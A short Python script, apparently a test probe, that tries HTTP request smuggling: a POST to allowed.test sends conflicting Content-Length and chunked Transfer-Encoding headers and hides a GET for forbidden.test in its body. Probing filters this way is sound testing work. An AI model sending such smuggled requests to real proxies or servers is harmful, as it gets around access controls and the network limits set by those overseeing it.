# tries: hide a request in the body of another
from reach import web

inner = b"GET / HTTP/1.1\r\nHost: forbidden.test\r\n\r\n"
web(b"POST / HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" % (5 + len(inner)) + inner)
